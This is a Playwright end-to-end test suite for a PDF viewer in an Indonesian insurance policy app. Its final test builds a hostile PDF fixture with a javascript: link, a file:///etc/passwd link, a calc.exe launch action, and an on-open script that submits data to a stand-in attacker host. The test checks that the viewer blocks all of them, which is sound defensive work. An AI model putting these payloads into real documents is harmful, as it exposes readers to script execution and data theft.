import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import crypto from 'node:crypto';
import { PDFDict, PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { budiSignedIn, expectNoAxeViolations, shot, type AppRun } from '../helpers/harness';
import type { LiveService } from '../helpers/live-service';

describe('Informasi Polis → Dokumen Polis → the viewer, in Chromium', () => {
  let run: Awaited<ReturnType<typeof budiSignedIn>>;
  let svc: LiveService;
  let app: AppRun;
  let page: Page;
  let saveDir: string;
  beforeAll(async () => {
    saveDir = fs.mkdtempSync(path.join(os.tmpdir(), 'pn-saved-'));
    run = await budiSignedIn({ saveDir });
    ({ svc, app, page } = run);
  }, 60_000);
  afterAll(async () => {
    await run?.close();
  });

  /** Each test starts on the policy's own page, whatever the one before it left on screen. */
  const openPolicy = async () => {
    await page.goto(`${app.preview.url}#/polis/IND-2019-000123`);
    await page.getByRole('heading', { name: 'Dokumen Polis' }).waitFor();
  };
  /** The reader's own way out, back to the policy. */
  const closeReader = async () => {
    await page.getByRole('link', { name: 'Tutup dokumen, kembali ke polis' }).click();
    await page.getByRole('heading', { name: 'Dokumen Polis' }).waitFor();
  };

  /** Puts `bytes` in the store in place of the policy's Rincian Premi, and answers its id. */
  const replaceRincianPremi = async (
    bytes: Buffer,
    sha256 = crypto.createHash('sha256').update(bytes).digest('hex'),
  ) => {
    const [doc] = await svc.service.store.db
      .selectFrom('documents')
      .selectAll()
      .where('title', '=', 'Rincian Premi')
      .where('policy_number', '=', 'IND2019000123')
      .execute();
    await svc.service.store.db
      .updateTable('documents')
      .set({ size_bytes: bytes.length, sha256, page_count: 1 })
      .where('id', '=', doc!.id)
      .execute();
    const { FolderDocumentStore } = await import('../../server/domain/documents/store');
    await new FolderDocumentStore(`${svc.env.DATA_DIR}/documents`).put(doc!.storage_key, bytes);
    return doc!.id;
  };

  it('shows a policy’s detail in rupiah and Indonesian dates, and its documents', async () => {
    await page.goto(`${app.preview.url}#/menu`);
    await page.getByRole('link', { name: 'Proteksi Jiwa Prima', exact: true }).click();
    await page.getByRole('heading', { name: 'Dokumen Polis' }).waitFor();
    await page.getByText('Rp 500.000.000').first().waitFor();
    await page.getByText('Rider Penyakit Kritis', { exact: false }).waitFor();
    await page.getByText('Ratna Santoso (Istri) — 60%').waitFor();
    await page.getByText('320 halaman', { exact: false }).waitFor();
    await expectNoAxeViolations(page, 'policy detail');
    await shot(page, 'id-90-policy-detail');
  });

  it('opens the 320-page conditions, goes to page 250, finds a word, follows the outline', async () => {
    await openPolicy();
    await page.getByRole('link', { name: 'Buka Ketentuan Umum Polis' }).click();
    const pageOf = page.getByTestId('page-of');
    await expect.poll(() => pageOf.textContent(), { timeout: 20_000 }).toBe('Halaman 1 dari 320');
    await shot(page, 'id-91-viewer-first-page');
    await page.getByLabel('Ke halaman').fill('250');
    await page.getByRole('button', { name: 'Buka halaman' }).click();
    await expect.poll(() => pageOf.textContent()).toBe('Halaman 250 dari 320');
    // The keys of pdf.js's own viewer: N and P turn pages; the buttons say so in their tooltips.
    await page.locator('.pdf-container').focus();
    await page.keyboard.press('n');
    await expect.poll(() => pageOf.textContent()).toBe('Halaman 251 dari 320');
    await page.keyboard.press('p');
    await expect.poll(() => pageOf.textContent()).toBe('Halaman 250 dari 320');
    expect(await page.getByRole('button', { name: 'Berikutnya', exact: true }).getAttribute('title')).toBe(
      'Berikutnya (N)',
    );
    expect(await page.getByRole('button', { name: 'Berikutnya', exact: true }).getAttribute('aria-keyshortcuts')).toBe(
      'N',
    );
    // Only the pages near the view are rendered, not all 320.
    const rendered = await page.locator('.pdfViewer .page canvas').count();
    expect(rendered).toBeGreaterThan(0);
    expect(rendered).toBeLessThan(20);
    await shot(page, 'id-92-viewer-page-250');

    // Ctrl+F goes to the viewer's find field.
    await page.getByTestId('page-of').click();
    await page.keyboard.press('Control+f');
    await expect.poll(() => page.evaluate('document.activeElement?.id')).toBe('find');
    await page.getByLabel('Cari', { exact: true }).fill('masa leluasa');
    await page.getByRole('button', { name: 'Cari berikutnya' }).click();
    // The count grows as the worker searches page after page: once per page of the 320.
    const total = async () =>
      Number(/dari (\d+) hasil/u.exec((await page.getByTestId('matches').textContent()) ?? '')?.[1] ?? 0);
    await expect.poll(total, { timeout: 30_000 }).toBeGreaterThanOrEqual(320);
    await page.locator('.textLayer .highlight').first().waitFor();
    // The highlights mark the words found, not their neighbours.
    const marked = await page.locator('.textLayer .highlight').allTextContents();
    expect(marked.length).toBeGreaterThan(0);
    for (const text of marked) expect(text.toLowerCase()).toBe('masa leluasa');
    await shot(page, 'id-93-viewer-find');

    await page.getByRole('button', { name: 'Pasal 12. Ketentuan Penutup' }).click();
    // 12 articles over 320 pages, 26 pages each: the last one starts on page 11 × 26 + 1.
    await expect.poll(() => pageOf.textContent()).toBe('Halaman 287 dari 320');
    await expectNoAxeViolations(page, 'viewer');
    await closeReader();
  });

  it('puts each find highlight over the painted words, within 2 px, on a justified page', async () => {
    await openPolicy();
    await page.getByRole('link', { name: 'Buka Ketentuan Umum Polis' }).click();
    await expect.poll(() => page.getByTestId('page-of').textContent(), { timeout: 20_000 }).toBe('Halaman 1 dari 320');
    await page.getByLabel('Ke halaman').fill('250');
    await page.getByRole('button', { name: 'Buka halaman' }).click();
    // Words inside justified lines (stretched gaps), one of them ending its line.
    await page.getByLabel('Cari', { exact: true }).fill('Premi telah');
    await page.getByRole('button', { name: 'Cari berikutnya' }).click();
    const marks = page.locator('.pdfViewer .page[data-page-number="250"] .find-mark');
    await expect.poll(() => marks.count(), { timeout: 20_000 }).toBeGreaterThan(0);
    await page.locator('.pdfViewer .page[data-page-number="250"] canvas').waitFor();
    // The truth is the ink on the page's canvas: each mark must start where its first word's ink
    // starts, with the blank between words just before it, and end where its last word's ink ends.
    const edges = (await page.evaluate(`(() => {
      const pageDiv = document.querySelector('.pdfViewer .page[data-page-number="250"]');
      const canvas = pageDiv.querySelector('canvas');
      const box = canvas.getBoundingClientRect();
      const sx = canvas.width / box.width, sy = canvas.height / box.height;
      const pixels = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data;
      const inkAt = (cssX, top, bottom) => {
        const x = Math.round(cssX * sx);
        for (let y = Math.round(top * sy); y <= Math.round(bottom * sy); y++) {
          const i = (y * canvas.width + x) * 4;
          if (pixels[i + 3] > 0 && pixels[i] + pixels[i + 1] + pixels[i + 2] < 3 * 150) return true;
        }
        return false;
      };
      return [...pageDiv.querySelectorAll('.find-mark')].map((m) => {
        const r = m.getBoundingClientRect();
        const left = r.left - box.left, right = r.right - box.left;
        const top = r.top - box.top + r.height * 0.3, bottom = r.bottom - box.top - r.height * 0.3;
        const columns = (from, to) => { const out = []; for (let x = from; x <= to; x += 0.5) out.push([x, inkAt(x, top, bottom)]); return out; };
        const firstInk = columns(left - 2, left + 6).find(([, on]) => on)?.[0] ?? null;
        const lastInk = columns(right - 6, right + 2).filter(([, on]) => on).at(-1)?.[0] ?? null;
        return {
          startGap: firstInk === null ? null : firstInk - left,
          endGap: lastInk === null ? null : right - lastInk,
          blankBefore: columns(left - 3, left - 1).every(([, on]) => !on),
          blankAfter: columns(right + 0.5, right + 3).every(([, on]) => !on),
        };
      });
    })()`)) as Array<{ startGap: number | null; endGap: number | null; blankBefore: boolean; blankAfter: boolean }>;
    expect(edges.length).toBeGreaterThan(0);
    for (const e of edges) {
      expect(e.startGap, JSON.stringify(e)).not.toBeNull();
      expect(Math.abs(e.startGap!), JSON.stringify(e)).toBeLessThanOrEqual(2);
      expect(Math.abs(e.endGap!), JSON.stringify(e)).toBeLessThanOrEqual(2);
      expect(e.blankBefore && e.blankAfter, JSON.stringify(e)).toBe(true);
    }
    await shot(page, 'id-93b-viewer-find-justified');
    await closeReader();
  });

  it('closes cleanly while a document is still opening, and the next one opens', async () => {
    const errors: string[] = [];
    const onError = (e: Error) => errors.push(e.message);
    const onConsole = (m: { type(): string; text(): string }) => m.type() === 'error' && errors.push(m.text());
    page.on('pageerror', onError);
    page.on('console', onConsole);
    try {
      for (let i = 0; i < 3; i++) {
        await openPolicy();
        await page.getByRole('link', { name: 'Buka Ketentuan Umum Polis' }).click();
        // The reader's frame is there, the 320 pages are still being read: close at once.
        await page.locator('.pdfViewer').waitFor({ state: 'attached' });
        await closeReader();
      }
      await page.getByRole('link', { name: 'Buka Rincian Premi' }).click();
      await expect.poll(() => page.getByTestId('page-of').textContent(), { timeout: 20_000 }).toBe('Halaman 1 dari 1');
      expect(errors).toEqual([]);
    } finally {
      page.off('pageerror', onError);
      page.off('console', onConsole);
    }
  });

  it('asks for the password of a protected document, says when it is wrong, and opens with the right one', async () => {
    await openPolicy();
    await page.getByRole('link', { name: 'Buka Ikhtisar Polis' }).click();
    const field = page.getByLabel('Dokumen ini dilindungi password', { exact: false });
    await field.waitFor({ timeout: 20_000 });
    await field.fill('01011990');
    await page.getByRole('button', { name: 'Buka', exact: true }).click();
    await page.getByText('Password salah. Coba lagi.').waitFor();
    // No page count before the document opens (it read "Halaman 1 dari 0").
    expect(await page.getByTestId('page-of').textContent()).toBe('');
    await shot(page, 'id-94-viewer-password-wrong');
    await field.fill('14031985');
    await page.getByRole('button', { name: 'Buka', exact: true }).click();
    await expect.poll(() => page.getByTestId('page-of').textContent(), { timeout: 20_000 }).toBe('Halaman 1 dari 2');
    // Written in the policyholder's language throughout, with the number as printed.
    await page.locator('.textLayer').getByText('(bulanan)', { exact: false }).first().waitFor();
    await page.locator('.textLayer').getByText('IND-2019-000123', { exact: false }).first().waitFor();
    expect(await page.locator('.textLayer').getByText('monthly', { exact: false }).count()).toBe(0);
    await shot(page, 'id-95-viewer-protected-open');
  });

  it('prints every page at the document’s own size, and saves a copy byte for byte', async () => {
    await openPolicy();
    await page.getByRole('link', { name: 'Buka Rincian Premi' }).click();
    const pageOf = page.getByTestId('page-of');
    await expect.poll(() => pageOf.textContent(), { timeout: 20_000 }).toMatch(/^Halaman 1 dari [1-9]\d*$/u);
    const pages = Number(/dari (\d+)/u.exec((await pageOf.textContent())!)![1]);

    await page.getByRole('button', { name: 'Cetak' }).click();
    await expect.poll(() => app.printed.length, { timeout: 30_000 }).toBe(1);
    const paper = await PDFDocument.load(app.printed[0]!);
    expect(paper.getPageCount()).toBe(pages);
    // Each sheet carries its page's picture, not a blank.
    for (const sheet of paper.getPages()) {
      expect(sheet.node.Resources()?.lookup(PDFName.of('XObject'))).toBeInstanceOf(PDFDict);
    }
    const [bytes] = await svc.service.store.db
      .selectFrom('documents')
      .select('id')
      .where('title', '=', 'Rincian Premi')
      .where('policy_number', '=', 'IND2019000123')
      .execute();
    const originalBytes = Buffer.from(
      ((await app.core.handlers['documents.open']({ documentId: bytes!.id })) as { value: { data: ArrayBuffer } }).value
        .data,
    );
    const original = await PDFDocument.load(originalBytes);
    const size = (d: PDFDocument) => d.getPage(0).getSize();
    expect(Math.abs(size(paper).width - size(original).width)).toBeLessThan(2);
    expect(Math.abs(size(paper).height - size(original).height)).toBeLessThan(2);
    // The print layout is gone once printed.
    expect(await page.locator('.print-layout').count()).toBe(0);

    await page.getByRole('button', { name: 'Simpan salinan' }).click();
    // Said as a toast, with where the copy went.
    await page
      .getByRole('status')
      .filter({ hasText: `Disimpan di ${path.join(saveDir, 'Rincian Premi IND2019000123.pdf')}` })
      .waitFor();
    expect(app.saveDialogs).toEqual(['Rincian Premi IND2019000123.pdf']);
    const copy = fs.readFileSync(path.join(saveDir, app.saveDialogs[0]!));
    expect(copy.equals(originalBytes)).toBe(true);
    await expectNoAxeViolations(page, 'viewer with print and save');
    await shot(page, 'id-97-viewer-saved-copy');
  });

  it('says clearly when a file is broken, instead of a blank page', async () => {
    // A damaged file in the store (the add-document command refuses such files; disks still fail).
    const docId = await replaceRincianPremi(Buffer.from('%PDF-1.7\n this file was cut short'), 'f'.repeat(64));
    await openPolicy();
    await page.goto(`${app.preview.url}#/polis/IND-2019-000123/dokumen/${docId}`);
    await page.getByText('Dokumen ini rusak atau bukan PDF', { exact: false }).waitFor({ timeout: 20_000 });
    // Said instead of a blank reader: no page counter, no page.
    expect(await page.getByTestId('page-of').count()).toBe(0);
    expect(await page.locator('.pdfViewer .page').count()).toBe(0);
    await shot(page, 'id-96-viewer-broken-file');
    // Even a broken file leaves a way out.
    await closeReader();
  });

  it('runs nothing a hostile PDF carries: no script, no launch, no link but https, and that one only through the main process', async () => {
    // A PDF as an attacker would send it: JavaScript on open, a launch action, and links to
    // javascript:, file: and https: addresses.
    const hostile = await PDFDocument.create();
    const font = await hostile.embedFont(StandardFonts.Helvetica);
    const sheet = hostile.addPage([595, 842]);
    const targets = [
      { label: 'Tautan javascript', action: { S: 'URI', URI: PDFString.of("javascript:alert('pdf')") } },
      { label: 'Tautan file', action: { S: 'URI', URI: PDFString.of('file:///etc/passwd') } },
      { label: 'Jalankan program', action: { S: 'Launch', F: PDFString.of('calc.exe') } },
      { label: 'Tautan https', action: { S: 'URI', URI: PDFString.of('https://contoh.example/bantuan') } },
    ];
    const annots = targets.map(({ label, action }, i) => {
      const y = 700 - i * 80;
      sheet.drawText(label, { x: 60, y: y + 10, size: 18, font });
      return hostile.context.register(
        hostile.context.obj({
          Type: 'Annot',
          Subtype: 'Link',
          Rect: [50, y, 400, y + 40],
          Border: [0, 0, 0],
          A: action,
        }),
      );
    });
    sheet.node.set(PDFName.of('Annots'), hostile.context.obj(annots));
    hostile.addJavaScript('onOpen', "app.alert('pdf script ran'); this.submitForm('https://penyerang.example/curi');");
    const bytes = Buffer.from(await hostile.save());

    const docId = await replaceRincianPremi(bytes);

    const dialogs: string[] = [];
    const requests: string[] = [];
    const onDialog = (d: { message(): string; dismiss(): Promise<void> }) => {
      dialogs.push(d.message());
      void d.dismiss();
    };
    const onRequest = (r: { url(): string }) => requests.push(r.url());
    page.on('dialog', onDialog);
    page.on('request', onRequest);
    try {
      await openPolicy();
      await page.goto(`${app.preview.url}#/polis/IND-2019-000123/dokumen/${docId}`);
      await expect.poll(() => page.getByTestId('page-of').textContent(), { timeout: 20_000 }).toBe('Halaman 1 dari 1');
      const links = page.locator('.annotationLayer a');
      await expect.poll(() => links.count()).toBeGreaterThan(0);
      const where = page.url();
      const openedBefore = app.opened.length;
      for (let i = 0; i < (await links.count()); i++) await links.nth(i).click({ force: true });
      // Every click has been handled once the https link reached the main process.
      await expect.poll(() => app.opened.length).toBe(openedBefore + 1);
      expect(app.opened.slice(openedBefore)).toEqual(['https://contoh.example/bantuan']);
      expect(page.url()).toBe(where);
      expect(dialogs).toEqual([]);
      expect(requests.filter((u) => !u.startsWith(app.preview.url.split('?')[0]!.replace(/\/$/u, '')))).toEqual([]);
      await shot(page, 'id-98-viewer-hostile-pdf');
    } finally {
      page.off('dialog', onDialog);
      page.off('request', onRequest);
    }
    await closeReader();
  });
});
